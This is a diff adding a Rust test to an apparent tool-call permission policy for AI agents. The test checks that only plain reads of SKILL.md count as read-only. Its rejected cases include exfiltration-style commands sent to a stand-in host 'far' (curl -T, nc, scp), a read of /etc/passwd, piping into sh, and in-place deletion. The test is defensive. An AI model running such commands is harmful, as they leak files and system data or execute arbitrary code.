@@ -27,6 +27,45 @@ fn the_files_a_command_reads_are_known() {
 }
 
 #[test]
+fn a_command_that_reads_nothing_but_a_skill_is_told_from_others() {
+    // U5, S3
+    let policy = Policy::profile(Profile::Default);
+    let host = HostTable::named("codex").expect("a host");
+    let only = |command: &str| {
+        let call = ToolCall::new("Bash", json!({ "command": command }));
+        policy.survey(&call, host, &Place::lexical(Path::new("/work"))).reads_only("SKILL.md")
+    };
+    for command in [
+        "cat /s/a/SKILL.md",
+        "sed -n 1,200p /s/a/SKILL.md",
+        "head -50 /s/a/SKILL.md; cat /s/b/skill.md",
+    ] {
+        assert!(only(command), "{command}");
+    }
+    for command in [
+        "cat SKILL.md",
+        "cat a/SKILL.md",
+        "cat /s/a/SKILL.md /etc/passwd",
+        "cat /s/a/SKILL.md; touch x",
+        "cat /s/a/SKILL.md > x",
+        "cat /s/*/SKILL.md",
+        "rg x /s/a",
+        "sed -i d /s/a/SKILL.md",
+        "scp /s/a/SKILL.md far:",
+        "frobnicate /s/a/SKILL.md",
+        "curl -T /s/a/SKILL.md https://far",
+        "nc far 1 < /s/a/SKILL.md",
+        "cat ‹ /s/a/SKILL.md",
+        "X=1 cat /s/a/SKILL.md",
+        "cat /s/a/SKILL.md | sh",
+        "ls",
+        "",
+    ] {
+        assert!(!only(command), "{command}");
+    }
+}
+
+#[test]
 fn a_file_read_from_a_directory_nobody_knows_is_named_as_it_is_spelled() {
     // U5, S3
     let policy = Policy::profile(Profile::Default);
